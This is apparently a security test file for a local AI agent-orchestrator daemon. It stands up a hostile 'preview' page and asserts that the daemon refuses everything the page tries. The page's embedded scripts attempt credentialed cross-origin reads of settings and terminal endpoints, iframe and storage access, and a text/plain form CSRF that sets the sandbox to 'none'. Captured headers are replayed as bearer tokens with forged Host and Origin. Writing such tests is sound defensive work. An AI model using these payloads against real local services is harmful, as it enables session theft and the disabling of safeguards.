/**
 * A page that an agent serves on another port of this machine, opened by a person whose dashboard is signed in. To cookies
 * it is the same site. Whatever its scripts can obtain, and whatever its server is sent, is tried against the daemon from
 * a process that forges Host and Origin: nothing is read, and nothing is changed.
 */
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { expect, onTestFinished, test } from "vitest";
import { runProgram } from "../../src/lib/run.ts";
import { aFolder } from "../../src/store/testing/folder.ts";
import { canaryEnvironment } from "../canary/canary.ts";
import { cli } from "../fixtures/ao-cli.ts";
import { hasBrowser, soon, why } from "../fixtures/browser.ts";
import { openBrowser } from "../fixtures/chromium.ts";
import { httpAsk, type HttpAsked } from "../fixtures/http-ask.ts";
import { aStage, type Stage } from "./stage.ts";

type Case = {
  /** Where the daemon listens. */
  readonly host: string;
  /** Names that it answers to: the person has a dashboard open at each of them. */
  readonly names: readonly [string, ...string[]];
  /** Of this machine, too; there the preview is served at the daemon's own port. */
  readonly neighbors: readonly string[];
};

const isLinux = process.platform === "linux";
const LOOPBACK = ["127.0.0.1", "localhost", "[::1]"] as const;
/** Elsewhere 127.0.0.2 is no address until somebody sets it up. */
const cases: readonly Case[] = [
  { host: "127.0.0.1", names: LOOPBACK, neighbors: isLinux ? ["127.0.0.2"] : [] },
  ...(isLinux ? [{ host: "127.0.0.2", names: ["127.0.0.2"] as const, neighbors: ["127.0.0.1", "[::1]"] }] : []),
];

test.runIf(hasBrowser).for(cases)(
  `with the daemon at $host, an agent's preview page on any address and port of this machine obtains nothing that the daemon answers to${why}`,
  { timeout: 180_000 },
  async ({ host, names, neighbors }) => {
    const config = join(aFolder(), "config.yaml");
    writeFileSync(config, JSON.stringify({ server: { host } }));
    const stage = await aStage({ env: { AO_CONFIG: config } });
    const browser = await openBrowser({ isWhole: true });
    onTestFinished(() => browser.close());
    const context = await browser.newContext();
    const dashboards: Dashboard[] = [];
    for (const name of names) dashboards.push(await signedIn(context, stage, name));
    const settings = readSettings(stage);
    const port = Number(new URL(stage.url()).port);

    const loot = new Set<string>();
    const previews = [
      ...[...new Set([...LOOPBACK, ...names])].map((name) => ({ host: name, port: 0 })),
      ...neighbors.map((name) => ({ host: name, port })),
    ];
    for (const [at, place] of previews.entries()) {
      const preview = await aPreview(place);
      await visit(context, { preview, dashboards, openedFrom: at % dashboards.length });
      for (const text of preview.loot) loot.add(text);
    }
    expect(loot.size).toBeGreaterThan(0);

    const addresses = host === "127.0.0.1" ? [host, "::1"] : [host];
    for (const address of addresses)
      for (const attempt of attemptsWith([...loot], { names, port })) {
        const { status, text } = await httpAsk(port, { ...attempt, address });
        const what = `${attempt.method} ${attempt.path} at ${address} ${JSON.stringify(attempt.headers)}: ${text}`;
        expect([401, 403], what).toContain(status);
      }
    expect(readSettings(stage)).toBe(settings);
    expect(await stage.client.listSessions({ all: true })).toEqual([]);
    // The person's own pages have not noticed anything.
    for (const { page } of dashboards) await page.locator("[data-connection=live]").first().waitFor();
  },
);

type Dashboard = { readonly page: Page; readonly origin: string };

/** By `ao dashboard --link`, at the name that the person prefers. */
async function signedIn(context: BrowserContext, stage: Stage, host: string): Promise<Dashboard> {
  const args = [cli, "dashboard", "--link"];
  const env = { PATH: process.env["PATH"], HOME: stage.personHome, AO_HOME: stage.home, ...canaryEnvironment() };
  const said = await runProgram({ program: process.execPath, args, cwd: stage.repository, env, timeoutMs: 20_000 });
  if (!said.ok) throw new Error(said.reason);
  const link = new URL(said.stdout.trim());
  link.hostname = host;
  const page = await context.newPage();
  await page.goto(link.href);
  await page.locator("[data-connection=live]").first().waitFor();
  return { page, origin: link.origin };
}

const readSettings = ({ repository }: Stage): string =>
  readFileSync(join(repository, "agent-orchestrator.yaml"), "utf8");

type Preview = { readonly origin: string; readonly loot: Set<string> };

/** Keeps every value of every header that it is sent, and what its scripts report. */
async function aPreview({ host, port }: { readonly host: string; readonly port: number }): Promise<Preview> {
  const loot = new Set<string>();
  const server = createServer((request, response) => {
    for (const text of secretsIn(request)) loot.add(text);
    if (request.method === "POST") return void take(request, loot).then(() => response.end());
    const isScript = request.url === "/worker.js";
    response.setHeader("content-type", isScript ? "text/javascript" : "text/html");
    response.end(isScript ? "" : "<!doctype html><body>The agent's preview</body>");
  });
  // `localhost` is either of them.
  const address = host === "localhost" ? "::" : host.replaceAll(/[[\]]/g, "");
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen({ port, host: address, ipv6Only: false }, resolve);
  });
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { origin: `http://${host}:${(server.address() as AddressInfo).port}`, loot };
}

const PLAIN = new Set(["host", "accept", "accept-encoding", "accept-language", "connection", "content-length"]);

function secretsIn({ headers }: IncomingMessage): readonly string[] {
  return Object.entries(headers).flatMap(([name, value]) => (PLAIN.has(name) ? [] : [`${name}: ${String(value)}`]));
}

async function take(request: IncomingMessage, loot: Set<string>): Promise<void> {
  let text = "";
  for await (const piece of request) text += String(piece);
  loot.add(`reported: ${text}`);
}

type Visit = { readonly preview: Preview; readonly dashboards: readonly Dashboard[]; readonly openedFrom: number };

/** Opened by a link of the dashboard, as people open previews; then it tries everything that a page can. */
async function visit(context: BrowserContext, { preview, dashboards, openedFrom }: Visit): Promise<void> {
  const opener = dashboards[openedFrom];
  if (opener === undefined) throw new Error("no dashboard is open");
  const opened = context.waitForEvent("page");
  await opener.page.evaluate(
    `Object.assign(document.createElement("a"), { href: ${text(preview.origin)}, target: "_blank", rel: "opener" }).click()`,
  );
  const page = await opened;
  await page.waitForLoadState();
  for (const { origin } of dashboards) await plunderAt(page, origin);
  const posted = page.waitForResponse((response) => response.url() === `${opener.origin}/api/settings`);
  await page.evaluate(`(${postForm})(${text(opener.origin)})`);
  expect((await posted).status()).toBe(403);
  await soon(() => page.textContent("body")).toContain("may not command this daemon");
  await page.close();
}

async function plunderAt(page: Page, origin: string): Promise<void> {
  const report = (await page.evaluate(`(${plunder})(${text(origin)})`)) as Readonly<Record<string, unknown>>;
  await page.evaluate(`fetch("/report", { method: "POST", body: ${text(JSON.stringify(report))} }).then(() => null)`);
  const { cookie, own, opener, broadcast, ...tries } = report;
  for (const [what, came] of Object.entries(tries)) expect([origin, what, came]).toEqual([origin, what, "refused"]);
  expect({ own, opener, broadcast }).toEqual({ own: 0, opener: null, broadcast: "nothing" });
  expect(typeof cookie).toBe("string");
}

const text = JSON.stringify;

/** Runs in the preview page. */
const plunder = `async (dashboard) => {
  const outcome = (attempt) => attempt.then((found) => found, () => "refused");
  const json = { method: "POST", headers: { "content-type": "application/json" }, body: "{}" };
  const asked = (path, init) => outcome(fetch(dashboard + path, { credentials: "include", ...init }).then((answer) => answer.text()));
  const event = (source, good) => new Promise((resolve) => {
    source.addEventListener(good, () => resolve("open"));
    source.addEventListener("error", () => { source.close(); resolve("refused"); });
  });
  const frame = document.createElement("iframe");
  frame.src = dashboard;
  document.body.append(frame);
  await new Promise((resolve) => (frame.onload = resolve));
  const heard = new Promise((resolve) => {
    new BroadcastChannel("ao").addEventListener("message", ({ data }) => resolve(JSON.stringify(data)));
    addEventListener("message", ({ data }) => resolve(JSON.stringify(data)));
    setTimeout(resolve, 500, "nothing");
  });
  frame.contentWindow.postMessage({ ask: "secret" }, "*");
  const reading = async (get) => { const found = get(); return found === null ? Promise.reject(new Error("closed")) : found; };
  return {
    cookie: document.cookie,
    own: localStorage.length + sessionStorage.length + (await indexedDB.databases()).length,
    opener: window.opener === null ? null : "open",
    get: await asked("/api/settings"),
    post: await asked("/api/settings", json),
    patch: await asked("/api/issues/1", { ...json, method: "PATCH" }),
    remove: await asked("/api/sessions/app-1", { method: "DELETE" }),
    simple: await asked("/api/settings", { method: "POST", body: "{}" }),
    signIn: await asked("/api/login", json),
    events: await event(new EventSource(dashboard + "/api/events", { withCredentials: true }), "open"),
    terminal: await event(new WebSocket(dashboard.replace("http", "ws") + "/api/terminal?ticket=x"), "open"),
    framed: await outcome(reading(() => frame.contentDocument && "read")),
    stored: await outcome(reading(() => frame.contentWindow.localStorage && "read")),
    worker: await outcome(navigator.serviceWorker.register(dashboard + "/service-worker.js").then(() => "registered")),
    script: await new Promise((resolve) => {
      const script = Object.assign(document.createElement("script"), { src: dashboard + "/api/settings", type: "module" });
      script.onload = () => resolve("loaded");
      script.onerror = () => resolve("refused");
      document.body.append(script);
    }),
    broadcast: await heard,
  };
}`;

/** Runs in the preview page: JSON by a form, which needs no permission. */
const postForm = `(dashboard) => {
  const form = Object.assign(document.createElement("form"), { method: "post", action: dashboard + "/api/settings", enctype: "text/plain" });
  form.append(Object.assign(document.createElement("input"), { name: '{"sandbox":"none","x":"', value: '"}' }));
  document.body.append(form);
  form.submit();
}`;

const CHANGE = JSON.stringify({ project: "app", edits: [{ key: "sandbox", value: "none" }] });

const TARGETS: readonly (readonly [method: string, path: string, body?: string])[] = [
  ["GET", "/api/sessions"],
  ["GET", "/api/settings?project=app"],
  ["GET", "/api/events"],
  ["GET", "/api/browsers"],
  ["POST", "/api/settings", CHANGE],
  ["POST", "/api/sessions", JSON.stringify({ projectId: "app", title: "Mine" })],
  ["POST", "/api/tickets", "{}"],
  ["DELETE", "/api/browsers"],
];

/** What was obtained, as it came and in every place where a secret could stand. */
function attemptsWith(
  loot: readonly string[],
  { names, port }: { readonly names: readonly string[]; readonly port: number },
): readonly HttpAsked[] {
  const asIs = Object.fromEntries(
    loot.map((line): [string, string] => [line.slice(0, line.indexOf(": ")), line.slice(line.indexOf(": ") + 2)]),
  );
  const { reported: _, ...replayed } = asIs;
  const words = [...new Set(loot.flatMap((line) => [line, ...line.split(/[\s;,="']+/)]))].filter(
    (word) => word.length >= 12 && /^[\x21-\x7e]+$/.test(word),
  );
  const headers = [replayed, ...words.map((word) => ({ authorization: `Bearer ${word}` }))];
  const hosts = names.map((name) => `${name}:${port}`);
  return hosts.flatMap((host) =>
    headers.flatMap((given) =>
      TARGETS.map(([method, path, body]) => ({
        ...{ method, path },
        headers: {
          ...given,
          ...{ host, origin: `http://${host}`, "sec-fetch-site": "same-origin", "content-type": "application/json" },
        },
        ...(body === undefined ? {} : { body }),
      })),
    ),
  );
}
